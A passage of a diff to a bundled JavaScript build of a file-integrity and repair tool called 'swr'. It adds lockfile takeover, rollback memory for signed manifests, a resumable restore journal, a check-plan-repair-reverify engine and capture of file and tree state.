+                retries: 0,
+                // proper-lockfile overwrites the code with ECOMPROMISED; the message keeps the cause.
+                onCompromised: err => opts.onLost?.(err.message.includes('ENOENT')
+                    ? 'its file in the state directory was removed'
+                    : 'another process took it over')
+            });
+            try {
+                writeFileAtomic(info, holderNote(), { mode: 0o600 });
+            }
+            catch (err) {
+                await release().catch(() => undefined);
+                throw err;
+            }
+            // An interrupt ends swr with process.exit: proper-lockfile lets go of the lock on exit, and
+            // the note of who held it goes with it.
+            const dropInfo = () => fs.rmSync(info, { force: true });
+            process.once('exit', dropInfo);
+            return async () => {
+                process.removeListener('exit', dropInfo);
+                dropInfo();
+                await release().catch(() => undefined);
+            };
+        }
+        catch (err) {
+            if (err.code !== 'ELOCKED')
+                throw err;
+        }
+        if (takeOverIfStale(lockDir, info, opts.staleMs ?? 10_000))
+            continue;
+        if (opts.abort?.aborted)
+            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, EXIT.INTERRUPTED);
+        if (Date.now() >= deadline) {
+            throw new SwrError(`${opts.subject} is locked by another swr run (${holder(info)}); gave up after ${Math.round(opts.waitMs / 1000)} s`, EXIT.UNREPAIRABLE);
+        }
+        if (!warned) {
+            opts.onWait?.(holder(info));
+            warned = true;
+        }
+        await lock_sleep(150);
+    }
+}
+function holderNote() {
+    const start = startTime(process.pid);
+    return `pid ${process.pid} host ${os.hostname()}${start ? ` start ${start}` : ''} since ${new Date().toISOString()}\n`;
+}
+/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
+function startTime(pid) {
+    try {
+        const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
+        // Fields after the command name (which may hold spaces and parentheses): state is the first,
+        // starttime (field 22) the twentieth.
+        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
+function holderAlive(note) {
+    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
+    if (!m || m[2] !== os.hostname())
+        return undefined;
+    const pid = Number(m[1]);
+    try {
+        process.kill(pid, 0);
+    }
+    catch (err) {
+        // EPERM: alive, under another user.
+        if (err.code !== 'EPERM')
+            return false;
+    }
+    const recorded = m[3];
+    const now = recorded ? startTime(pid) : undefined;
+    return !(recorded && now && now !== recorded);
+}
+/**
+ * Remove a lock whose holder is gone; true when it did. The note is read twice, the second time
+ * just before the removal, so a lock taken over by a third run in between is left alone.
+ */
+function takeOverIfStale(lockDir, info, staleMs) {
+    const note = readNote(info);
+    const alive = note === undefined ? undefined : holderAlive(note);
+    if (alive === true)
+        return false;
+    if (alive === undefined) {
+        const st = fs.statSync(lockDir, { throwIfNoEntry: false });
+        if (!st)
+            return true;
+        if (Date.now() - st.mtimeMs < staleMs)
+            return false;
+    }
+    if (readNote(info) !== note)
+        return false;
+    try {
+        fs.rmdirSync(lockDir);
+    }
+    catch (err) {
+        if (err.code !== 'ENOENT')
+            return false;
+    }
+    return true;
+}
+function readNote(info) {
+    try {
+        return fs.readFileSync(info, 'utf8');
+    }
+    catch {
+        return undefined;
+    }
+}
+function holder(info) {
+    return readNote(info)?.trim() ?? 'holder unknown';
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
+/**
+ * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
+ * digest. An older version is a rollback; the same version with another digest is a fork. CI
+ * runners start empty, so there the floor comes from the caller (--min-version / an input).
+ *
+ * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
+ * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
+ * names both repository and manifest path, that scope (so a second checkout of the repository
+ * shares it too). Recall takes the highest version under any of the keys; remember writes all of
+ * them. Files written under the older spelled-path key are still read (they are the real-path key
+ * whenever the path was spelled without a symlink).
+ */
+
+
+
+
+
+
+function keyFile(stateDir, identity) {
+    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
+    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
+}
+/** Every memory file that speaks for this manifest; the first is the real-path key. */
+function memoryFiles(stateDir, manifestFile, scope) {
+    const files = [keyFile(stateDir, canonicalPath(manifestFile))];
+    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
+        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
+    return files;
+}
+function readOne(file) {
+    try {
+        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
+        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
+    }
+    catch {
+        return undefined;
+    }
+}
+function recall(stateDir, manifestFile, scope) {
+    // The spelled-path key is read too: memory written before keys were real paths.
+    const files = [
+        ...memoryFiles(stateDir, manifestFile, scope),
+        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
+    ];
+    let best;
+    for (const f of new Set(files)) {
+        const v = readOne(f);
+        if (v && (!best || v.version > best.version))
+            best = v;
+    }
+    return best;
+}
+/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
+function version_memory_remember(stateDir, manifestFile, r, scope) {
+    const old = recall(stateDir, manifestFile, scope);
+    if (old && old.version > r.version)
+        return;
+    try {
+        ensurePrivateDir(stateDir, 'versions');
+        for (const f of memoryFiles(stateDir, manifestFile, scope))
+            writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
+    }
+    catch {
+        // Memory is a second line of defence; failing to write it must not fail the run.
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/state/journal.ts
+/**
+ * The restore journal: an append-only record of what an interrupted restore already repaired, so
+ * `--resume` can continue. One JSON line per event, each appended with a single write and fsynced.
+ * A journal written for another manifest digest or workspace is ignored.
+ */
+
+
+
+
+
+function journalPath(stateDir, workspace) {
+    const key = createHash('sha256').update(path.resolve(workspace)).digest('hex').slice(0, 32);
+    return path.join(stateDir, 'journal', `${key}.jsonl`);
+}
+function journal_resumeState(stateDir, workspace, digest) {
+    const none = { interrupted: false, repaired: new Set() };
+    let lines;
+    try {
+        lines = fs.readFileSync(journalPath(stateDir, workspace), 'utf8').split('\n').filter(Boolean);
+    }
+    catch {
+        return none;
+    }
+    const repaired = new Set();
+    try {
+        const head = JSON.parse(lines[0] ?? '');
+        if (head.v !== 1 || head.digest !== digest || head.workspace !== path.resolve(workspace))
+            return none;
+        for (const line of lines.slice(1)) {
+            const e = JSON.parse(line);
+            if (e.id === '*' && e.outcome === 'finished')
+                return none;
+            if (e.outcome === 'repaired')
+                repaired.add(e.id);
+        }
+    }
+    catch {
+        // A torn last line from a killed run: keep what was read before it.
+    }
+    return { interrupted: true, repaired };
+}
+function journal_openJournal(stateDir, workspace, digest, now, resume) {
+    ensurePrivateDir(stateDir, 'journal');
+    const file = journalPath(stateDir, workspace);
+    if (!resume || !journal_resumeState(stateDir, workspace, digest).interrupted) {
+        const head = {
+            v: 1,
+            digest,
+            workspace: path.resolve(workspace),
+            started: now.toISOString()
+        };
+        writeFileAtomic(file, JSON.stringify(head) + '\n', { mode: 0o600 });
+    }
+    const append = (e) => appendRecord(file, JSON.stringify(e) + '\n');
+    return {
+        file,
+        append,
+        close: () => append({ id: '*', outcome: 'finished', at: new Date().toISOString() })
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/repair.ts
+/**
+ * restore and doctor as one engine call, shared by the CLI and the Action:
+ *
+ *   check -> plan -> gate -> run the plan (journal, quarantine) -> re-verify -> report
+ *
+ * Both re-check the whole selection uncached at the end (restore also re-verifies each step as it
+ * runs), so damage a recipe did to another entry is seen and named. The
+ * caller hears each phase through hooks (to print, group logs, or stay silent) and gets a report
+ * that says what happened and which exit code that means.
+ */
+
+
+
+
+
+
+
+
+
+
+async function repairManifest(m, opts) {
+    const hooks = opts.hooks ?? {};
+    const verify = (cache, known) => verifySelection(m, {
+        only: opts.only,
+        known,
+        cache,
+        stateDir: opts.stateDir,
+        version: opts.version,
+        jobs: opts.jobs,
+        nativeWalk: opts.nativeWalk
+    });
+    const reportFor = (c) => reportOf(m, c, { version: opts.version, command: opts.mode });
+    const first = await verify(opts.cache !== false);
+    const before = reportFor(first);
+    const plan = planRepair(m.body.entries, first.findings);
+    hooks.onCheck?.(before, plan);
+    const finish = (outcome, steps, final, gate, harmed = []) => {
+        const repair = {
+            mode: opts.mode,
+            dry_run: opts.dryRun === true,
+            before: {
+                summary: before.summary,
+                signature: before.diagnosis.signature,
+                cause: before.diagnosis.cause
+            },
+            plan: plan.waves,
+            ...(gate
+                ? { gate: { allowed: gate.allowed, reason: gate.reason, warnings: gate.warnings } }
+                : {}),
+            steps,
+            ...(harmed.length > 0 ? { collateral: harmed } : {}),
+            write_back: writeBack(m, steps),
+            outcome,
+            exit_code: repairOutcome(outcome).exitCode
+        };
+        return { ...final, repair };
+    };
+    if (before.verdict === 'healthy')
+        return finish('healthy', [], before);
+    if (opts.dryRun)
+        return finish('damaged', [], before);
+    const gate = await decide(gateInput(m), opts.policy);
+    hooks.onGate?.(gate);
+    if (!gate.allowed)
+        return finish('refused', [], before, gate);
+    if (opts.rememberAccepted)
+        remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
+    const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
+    const already = resumed?.repaired ?? new Set();
+    if (resumed)
+        hooks.onResume?.(already.size, resumed.interrupted);
+    const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
+    const reverify = { stateDir: opts.stateDir, jobs: opts.jobs, nativeWalk: opts.nativeWalk };
+    const steps = await runPlan({
+        manifest: m,
+        plan,
+        gate,
+        callerEnv: opts.callerEnv,
+        reverify: reverifier(m, reverify),
+        reverifyAt: scratchVerifier(m, reverify),
+        jobs: opts.jobs ?? 1,
+        timeoutS: opts.timeoutS,
+        quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
+        alreadyRepaired: already,
+        journal,
+        abort: opts.abort,
+        cache: opts.cacheClient,
+        onLine: hooks.onLine,
+        onStep: hooks.onStep
+    });
+    const interrupted = steps.some(s => s.outcome === 'interrupted') || opts.abort?.aborted === true;
+    if (!interrupted)
+        journal.close();
+    // Entries a cache archive healed were proven byte by byte as they were extracted, moments ago:
+    // the final uncached check takes those findings instead of reading them a second time.
+    const proven = new Map(steps.flatMap(s => s.outcome === 'repaired' && s.source === 'cache' && isProven(s.after)
+        ? [[s.id, s.after]]
+        : []));
+    // The verdict comes from an uncached check of the whole selection, restore included: a recipe
+    // may damage an entry it was not asked to touch, and only a full re-check sees that.
+    const final = reportFor(interrupted
+        ? finalFindings(first, steps, true)
+        : finalFindings(await verify(false, proven), steps, false));
+    const harmed = collateral(first.findings, final.results, steps);
+    hooks.onFinal?.(final);
+    return finish(verdict(final, steps, interrupted, harmed), steps, final, gate, harmed);
+}
+/**
+ * Entries that verified before the repair and do not after it: damage a recipe did on the side.
+ * Each is named with the steps that ran before the re-check found it (the likely culprits).
+ */
+function collateral(before, final, steps) {
+    const wasOk = new Set(before.filter(f => f.status === 'OK').map(f => f.id));
+    const ran = steps.filter(s => s.outcome !== 'skipped' && s.source === 'recipe').map(s => s.id);
+    return final
+        .filter(f => wasOk.has(f.id) && f.status !== 'OK' && f.status !== 'SKIPPED')
+        .map(f => ({ id: f.id, status: f.status, detail: f.detail, after: ran }));
+}
+/**
+ * Entries a recipe healed and re-verified: their state is worth saving to the cache under the
+ * key of their signed expectations, so the next run restores it without running code.
+ */
+function writeBack(m, steps) {
+    const entries = new Map(m.body.entries.map(e => [e.id, e]));
+    return steps.flatMap(s => {
+        const e = entries.get(s.id);
+        return s.outcome === 'repaired' && s.source === 'recipe' && e
+            ? [{ id: s.id, key: stateKey(e) }]
+            : [];
+    });
+}
+/**
+ * The findings of the final state, from `base` (the final check, or the first check when an
+ * interruption left no time for one): entries whose step was skipped because a dependency failed
+ * are SKIPPED rather than their damage; with `stepFindings`, each step's own re-verification
+ * stands for its entry.
+ */
+function finalFindings(base, steps, stepFindings) {
+    const after = new Map(stepFindings ? steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])) : []);
+    const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
+    const findings = base.findings.map(f => {
+        const a = after.get(f.id);
+        if (a)
+            return a;
+        const why = skipped.get(f.id);
+        return why && f.status !== 'OK'
+            ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why }
+            : f;
+    });
+    return { ...base, findings, ms: Date.now() - base.started.getTime() };
+}
+function verdict(final, steps, interrupted, harmed) {
+    if (interrupted)
+        return 'interrupted';
+    if (final.verdict === 'healthy')
+        return 'repaired';
+    if (harmed.length > 0 || steps.some(s => s.outcome === 'still-damaged'))
+        return 'still-damaged';
+    return 'unrepairable';
+}
+
+;// CONCATENATED MODULE: ./src/core/hash-off-thread.ts
+/**
+ * Hashing one large file on a worker thread, with the verifiers' own kernel, so the main thread's
+ * event loop stays live meanwhile: a lock holder refreshes its lock, signals are handled. A small
+ * file is hashed inline (a worker costs 30-50 ms to start).
+ */
+
+
+
+const hash_off_thread_INLINE_BYTES = (/* unused pure expression or super */ null && (16 * 1024 * 1024));
+function hash_off_thread_hashOffThread(abs, how, size) {
+    if (size < hash_off_thread_INLINE_BYTES)
+        return Promise.resolve(runJob(abs, how));
+    return new Promise((resolve, reject) => {
+        const counter = new SharedArrayBuffer(4);
+        const w = new Worker(kernelUrl(), {
+            workerData: { swrHashWorker: true, paths: [abs], hows: [how], counter }
+        });
+        let result;
+        w.on('message', (m) => {
+            if (m === 'done')
+                void w.terminate();
+            else
+                for (const [, r] of m)
+                    result = r;
+        });
+        w.on('error', reject);
+        w.on('exit', () => result ? resolve(result) : reject(new Error('hash worker ended without a result')));
+    });
+}
+
+;// CONCATENATED MODULE: ./src/core/capture.ts
+/**
+ * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
+ * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
+ * captured entry verifies by construction.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Files at least this large are tracked as blobs unless a kind is given. */
+const capture_BLOB_THRESHOLD = (/* unused pure expression or super */ null && (64 * 1024 * 1024));
+/** Build and project files whose presence at a tree's root says what the tree is. */
+const capture_PROJECT_MARKERS = [
+    'package.json',
+    'CMakeLists.txt',
+    'go.mod',
+    'Cargo.toml',
+    'pyproject.toml',
+    'setup.py',
+    'Makefile',
+    'pom.xml',
+    'build.gradle',
+    'Gemfile'
+];
+/** Markers whose presence at a tree's root makes a good sentinel. */
+const MARKERS = [...capture_PROJECT_MARKERS, 'SKILL.md', 'README.md'];
+/** An id for `rel` that matches the id rule and is not in `taken`. */
+function deriveId(rel, taken) {
+    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
+        .replace(/[^A-Za-z0-9._-]+/g, '-')
+        .replace(/^[.-]+/, '')
+        .slice(0, 100) || 'entry';
+    let id = base;
+    for (let n = 2; taken.has(id); n++)
+        id = `${base}-${n}`;
+    return id;
+}
+async function capture_captureEntry(workspace, req, taken, opts = {}) {
+    const pool = opts.pool ?? {};
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    const st = loc.st;
+    const kind = req.kind ??
+        (st.isSymbolicLink()
+            ? 'link'
+            : st.isDirectory()
+                ? 'tree'
+                : Number(st.size) >= capture_BLOB_THRESHOLD
+                    ? 'blob'
+                    : 'file');
+    const mode = Number(st.mode & 4095n);
+    const wrongType = (want) => new UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
+    if ((kind === 'file' || kind === 'blob') && !st.isFile())
+        throw wrongType('a regular file');
+    if (kind === 'tree' && !st.isDirectory())
+        throw wrongType('a directory');
+    if (kind === 'link' && !st.isSymbolicLink())
+        throw wrongType('a symlink');
+    const id = req.id ?? deriveId(req.path, taken);
+    if (!ENTRY_ID.test(id))
+        throw new UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
+    if (taken.has(id))
+        throw new UsageError(`entry "${id}" already exists in the manifest`);
+    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
+    const secret = kind === 'file'
+        ? secretReason({
+            rel: req.path,
+            abs: loc.abs,
+            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
+        })
+        : undefined;
+    const note = req.note ?? (secret !== undefined ? SECRET_NOTE : undefined);
+    const common = {
+        id,
+        path: req.path,
+        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
+        needs: req.needs ?? [],
+        ...(req.restore !== undefined ? { restore: req.restore } : {}),
+        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
+        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
+        ...(note !== undefined ? { note } : {})
+    };
+    switch (kind) {
+        case 'file': {
+            if (req.fullHash === false)
+                throw new UsageError(`${req.path}: --no-full-hash is for blobs (add it with --kind blob)`);
+            // Off the main thread when large, so the event loop (lock refresh, signals) stays live.
+            const d = await steadily(req.path, loc.abs, async () => {
+                const r = await hashOffThread(loc.abs, 'full', Number(st.size));
+                if ('error' in r)
+                    throw new UsageError(`${req.path}: cannot read (${r.error})`);
+                return r;
+            });
+            return {
+                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: octal(d.mode) } }
+            };
+        }
+        case 'blob': {
+            if (req.fullHash === false) {
+                const ht = await steadily(req.path, loc.abs, async () => hashHeadTail(loc.abs));
+                const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+                return { entry: { ...common, kind, expect } };
+            }
+            const { ht, full } = await steadily(req.path, loc.abs, async () => {
+                const ht = hashHeadTail(loc.abs);
+                const full = await hashOffThread(loc.abs, 'full', ht.size);
+                if ('error' in full)
+                    throw new UsageError(`${req.path}: cannot read (${full.error})`);
+                // Two sizes for one file mean it changed between the two reads: -1 matches no state.
+                return { ht, full, size: full.size === ht.size ? ht.size : -1 };
+            });
+            return {
+                entry: {
+                    ...common,
+                    kind,
+                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: octal(ht.mode) }
+                }
+            };
+        }
+        case 'link': {
+            const target = fs.readlinkSync(loc.abs);
+            // The link verifier's own walk: what it would call BROKENLNK is refused now, not recorded.
+            const end = followInside(workspace, loc.abs, target);
+            if (end.state === 'dangling')
+                throw new UsageError(`${req.path}: cannot add: the symlink -> ${shownName(target)} is broken (${shownName(end.why)}); add it once its target exists`);
+            return { entry: { ...common, kind, expect: { target } } };
+        }
+        case 'tree':
+            return captureTree(fs.realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
+    }
+}
+/** Tries at capturing a file or tree that keeps changing while it is read, before refusing. */
+const ATTEMPTS = 3;
+/** What must not move while a file is hashed: a hash of no single state can never match. */
+function sameState(a, b) {
+    return (a !== undefined &&
+        b !== undefined &&
+        a.ino === b.ino &&
+        a.size === b.size &&
+        a.mtimeNs === b.mtimeNs &&
+        a.ctimeNs === b.ctimeNs);
+}
+function changedWhileRead(shown, before, after) {
+    const sizes = after === undefined ? 'then vanished' : `size ${before} -> ${after}`;
+    return new UsageError(`${shown}: cannot add: changed while it was read (${sizes}, ${ATTEMPTS} tries); add it once nothing writes to it`);
+}
+/**
+ * Hash a file with its state read before and after: a file that grows or is rewritten meanwhile
+ * is hashed again, and refused when it never holds still.
+ */
+async function steadily(shown, abs, hash) {
+    let before = fs.lstatSync(abs, { bigint: true });
+    let after;
+    for (let attempt = 1;; attempt++) {
+        const r = await hash();
+        after = fs.lstatSync(abs, { bigint: true, throwIfNoEntry: false });
+        if (sameState(before, after) && BigInt(r.size) === before.size)
+            return r;
+        if (attempt === ATTEMPTS || !after)
+            throw changedWhileRead(shown, before.size, after?.size);
+        before = after;
+    }
+}
+function defaultTier(kind, rel, mode) {
+    if (kind === 'blob')
+        return 3;
+    if (kind === 'tree')
+        return underVolatileDir(rel) ? 4 : 2;
+    if (kind === 'link')
+        return 1;
+    return (mode & 0o111) !== 0 ? 1 : 2;
+}
+async function captureTree(root, req, common, pool, exclude) {
+    const ignore = req.ignore ?? [];
+    let walk;
+    let extras;
+    for (let attempt = 1;; attempt++) {
+        walk = walkTree(root, ignore, exclude);
+        if (walk.unreadable.length > 0) {
+            const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
+            throw new UsageError(`${req.path}: cannot read ${shown.join(', ')}`);
+        }
+        extras = linkTargets(root, walk.records);
+        const moved = await hashTreeFiles(root, req.path, walk.records, extras, pool);
+        if (!moved)
+            break;
+        if (attempt === ATTEMPTS)
+            throw changedWhileRead(`${req.path}/${shownName(moved.rel)}`, ...moved.sizes);
+    }
+    const records = walk.records.map((r, i) => ({
+        rel: r.rel,
+        type: r.type,
+        mode: r.mode,
+        size: r.size,
+        extra: extras[i]
+    }));
+    const index = encodeIndex(records);
+    const sentinels = req.sentinels ??
+        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
+    for (const s of sentinels) {
+        const loc = locateInside(root, s);
+        if (loc.state !== 'present')
+            throw new UsageError(`--sentinel ${s}: not found in ${req.path}`);
+        if (loc.st.isFile() && loc.st.size === 0n)
+            throw new UsageError(`--sentinel ${s}: is empty in ${req.path}`);
+    }
+    const entry = {
+        ...common,
+        kind: 'tree',
+        ignore,
+        expect: {
+            sentinels,
+            min_files: req.minFiles ?? walk.files,
+            max_files: req.maxFiles ?? walk.files,
+            files: walk.files,
+            meta_digest: metaDigestOf(walk.records),
+            content_digest: contentDigest(walk.records, extras),
+            index: indexRef(index, records.length)
+        }
+    };
+    return { entry, index };
+}
+/**
+ * Hash every file of a walk into `extras`; the first file whose state moved since the walk saw it
+ * (a hash of no single state) is returned instead of being trusted.
+ */
+async function hashTreeFiles(root, shown, records, extras, pool) {
+    const jobs = [];
+    const at = [];
+    records.forEach((r, i) => {
+        if (r.type === 'f') {
+            jobs.push({ abs: path.join(root, r.rel), how: 'full', cost: r.size });
+            at.push(i);
+        }
+    });
+    const results = await hashAll(jobs, pool);
+    for (let k = 0; k < results.length; k++) {
+        const res = results[k];
+        const r = records[at[k]];
+        if ('error' in res)
+            throw new UsageError(`${shown}/${shownName(r.rel)}: cannot read (${res.error})`);
+        const now = fs.lstatSync(fsPath(path.join(root, r.rel)), {
+            bigint: true,
+            throwIfNoEntry: false
+        });
+        const then = { ino: r.ino, size: BigInt(r.size), mtimeNs: r.mtimeNs, ctimeNs: r.ctimeNs };
+        if (!sameState(then, now) || res.size !== r.size)
+            return { rel: r.rel, sizes: [then.size, now?.size] };
+        extras[at[k]] = res.sha256;
+    }
+    return undefined;
+}
+/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
+function pickSentinels(files) {
+    // A sentinel is a manifest path: names that are not (not UTF-8, not NFC) cannot be one.
+    files = files.filter(f => innerPathProblem(f) === undefined);
+    const set = new Set(files);
+    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
+    const deepest = [...files]
+        .filter(f => !f.split('/').some(s => VOLATILE_DIRS.has(s)))
+        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
+    if (deepest && !picked.includes(deepest))
+        picked.push(deepest);
+    return picked;
 }
 
 ;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
@@ -40710,8 +43846,8 @@ function import_v2_int(v) {
 }
 function convertEntry(raw, workspace, where, notes) {
     const id = str(raw.id);
-    if (id === undefined || !ENTRY_ID.test(id)) {
-        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${ENTRY_ID.source}`;
+    if (id === undefined || !paths_ENTRY_ID.test(id)) {
+        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${paths_ENTRY_ID.source}`;
     }
     const named = `${where} ("${id}")`;
     const rawPath = str(raw.path);
@@ -40721,9 +43857,9 @@ function convertEntry(raw, workspace, where, notes) {
         ? external_node_path_default().relative(workspace, rawPath)
         : external_node_path_default().posix.normalize(rawPath);
     const spelled = rel === '' ? '.' : rel.split((external_node_path_default()).sep).join('/').replace(/\/+$/, '');
-    const problem = pathProblem(spelled);
+    const problem = paths_pathProblem(spelled);
     if (problem)
-        return `${named}: path ${escapeText(rawPath, { max: QUOTE_MAX })} ${problem}`;
+        return `${named}: path ${escape_escapeText(rawPath, { max: QUOTE_MAX })} ${problem}`;
     const tierRaw = import_v2_int(raw.tier) ?? 2;
     if (tierRaw > 4)
         return `${named}: tier ${tierRaw} is not 0..4`;
@@ -40772,7 +43908,7 @@ function convertEntry(raw, workspace, where, notes) {
             if (!headtail || !/^[0-9a-f]{64}$/.test(headtail))
                 return `${named}: headtail missing or malformed`;
             if (str(raw.upstream))
-                notes.push(`${id}: upstream ${escapeText(str(raw.upstream) ?? '', { max: QUOTE_MAX })} kept only in the format-2 file`);
+                notes.push(`${id}: upstream ${escape_escapeText(str(raw.upstream) ?? '', { max: QUOTE_MAX })} kept only in the format-2 file`);
             return { ...common, kind: 'blob', expect: { size: bytes, headtail } };
         }
         case 'tree': {
@@ -41014,11 +44150,11 @@ function describe(code) {
 const lastSeen = new Map();
 const sha = (bytes) => (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
 /** Record the bytes just read from (or written to) `file`. */
-function noteManifestBytes(file, bytes) {
+function read_fingerprint_noteManifestBytes(file, bytes) {
     lastSeen.set(external_node_path_default().resolve(file), sha(bytes));
 }
 /** Throw unless `file` holds what this process last read or wrote there (when it read it at all). */
-function assertUnchangedSinceRead(file) {
+function read_fingerprint_assertUnchangedSinceRead(file) {
     const abs = path.resolve(file);
     const seen = lastSeen.get(abs);
     if (seen === undefined)
@@ -41191,7 +44327,7 @@ function ruleProblems(doc, where) {
         if (ids.has(e.id))
             out.push(`${at(i, 'id')} duplicates entry #${(ids.get(e.id) ?? 0) + 1}`);
         ids.set(e.id, i);
-        const problem = pathProblem(e.path);
+        const problem = paths_pathProblem(e.path);
         if (problem)
             out.push(`${at(i, 'path')} ${problem}`);
         const other = paths.get(e.path);
@@ -41218,7 +44354,7 @@ function kindProblems(e) {
         return [];
     const out = [];
     e.expect.sentinels.forEach((s, k) => {
-        const problem = innerPathProblem(s);
+        const problem = paths_innerPathProblem(s);
         if (problem)
             out.push({ field: `expect/sentinels/${k}`, text: problem });
     });
@@ -41287,21 +44423,21 @@ function loadManifest(file, opts = {}) {
     const abs = external_node_path_default().resolve(opts.cwd ?? process.cwd(), file);
     const shown = external_node_path_default().relative(opts.cwd ?? process.cwd(), abs) || abs;
     const text = readBounded(abs, shown);
-    const { doc, format, lines, notes } = parseManifestText(text, shown);
+    const { doc, format, lines, notes } = load_parseManifestText(text, shown);
     const workspace = resolveWorkspace(abs, doc.body.workspace, opts);
     return {
         file: abs,
         format,
         doc,
         body: doc.body,
-        digest: manifestDigest(doc.body),
+        digest: canonical_manifestDigest(doc.body),
         workspace,
         lines,
         notes
     };
 }
 /** Strict parse, format detection and validation of manifest text; `shown` names it in messages. */
-function parseManifestText(text, shown) {
+function load_parseManifestText(text, shown) {
     let parsed;
     try {
         parsed = parseStrictJson(text);
@@ -41368,7 +44504,7 @@ function readBounded(abs, shown) {
                 break;
             got += n;
         }
-        noteManifestBytes(abs, buf.subarray(0, got));
+        read_fingerprint_noteManifestBytes(abs, buf.subarray(0, got));
         const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
         try {
             return decoder.decode(buf.subarray(0, got)).replace(/^\uFEFF/, '');
@@ -41399,571 +44535,3183 @@ function resolveWorkspace(manifestFile, declared, opts) {
     return real;
 }
 
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-;// CONCATENATED MODULE: ./src/core/sign/envelope.ts
+;// CONCATENATED MODULE: ./src/core/manifest/locate.ts
 /**
- * What a signature signs. Signatures never live inside the bytes they sign: the signing input is
- * DSSE's pre-authentication encoding of the canonical (RFC 8785) body, which binds the payload
- * type, and with it the manifest format and the signature-format version:
- *   "DSSEv1" SP len(type) SP type SP len(body) SP body
+ * Where the manifest lives: an explicit flag, then SWR_MANIFEST, then the nearest
+ * `.swr/manifest.json` walking up from the current directory (as git finds `.git`), then
+ * `~/.swr/manifest.json` describing $HOME (the agent-sandbox case).
  */
 
-const PAYLOAD_TYPE = 'application/vnd.swr.manifest.v3+json';
-/** DSSE pre-authentication encoding of `payload` under `type`. */
-function pae(type, payload) {
-    const t = Buffer.from(type, 'utf8');
-    const head = Buffer.from(`DSSEv1 ${t.length} ${type} ${payload.length} `, 'utf8');
-    return Buffer.concat([head, payload]);
-}
-/** The exact bytes every manifest signature covers. */
-function signingInput(body, type = PAYLOAD_TYPE) {
-    return pae(type, canonicalBytes(body));
+
+const MANIFEST_DIR = '.swr';
+const MANIFEST_NAME = 'manifest.json';
+/** The manifest a command should read; `how: 'new'` when none exists (where `add` would create one). */
+function locateManifest(input) {
+    if (input.flag)
+        return { file: path.resolve(input.cwd, input.flag), how: 'flag' };
+    if (input.env)
+        return { file: path.resolve(input.cwd, input.env), how: 'env' };
+    for (let dir = path.resolve(input.cwd);; dir = path.dirname(dir)) {
+        const candidate = path.join(dir, MANIFEST_DIR, MANIFEST_NAME);
+        if (fs.existsSync(candidate))
+            return { file: candidate, how: 'found' };
+        if (dir === path.dirname(dir))
+            break;
+    }
+    const home = path.join(input.home, MANIFEST_DIR, MANIFEST_NAME);
+    if (fs.existsSync(home))
